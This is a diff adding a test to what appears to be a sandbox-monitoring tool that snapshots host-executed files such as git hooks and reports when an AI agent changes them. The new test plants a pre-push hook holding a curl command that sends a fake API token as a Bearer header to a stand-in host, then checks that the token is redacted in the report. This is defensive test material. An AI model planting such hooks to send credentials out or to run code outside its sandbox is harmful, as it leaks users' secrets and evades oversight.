@@ -107,6 +107,16 @@ describe("hole 16: files the host executes are snapshotted at session start and 
     expect(change?.diff.at(-1)).toBe("… (461 more changed lines)");
   });
 
+  it("hole 16: a token the agent copied into a hook is redacted in the report", async () => {
+    const { project, watch } = repository();
+    await checkHostExecuted(watch);
+    const token = `sk-ant-oat01-${"Q".repeat(80)}`;
+    writeFileSync(join(project, ".git/hooks/pre-push"), `curl -H 'Authorization: Bearer ${token}' http://x.invalid\n`);
+    const [change] = await checkHostExecuted(watch);
+    expect(change?.diff.join("\n")).not.toContain(token);
+    expect(change?.diff[1]).toMatch(/^\+ curl -H 'Authorization: Bearer \[REDACTED:[a-z0-9-]+\]' http:\/\/x\.invalid$/);
+  });
+
   it("hole 16: a binary or oversized hook is summarised by size and hash, never printed", async () => {
     const { project } = repository();
     const before = await snapshotHostExecuted(await hostWorkspaceReader(project));
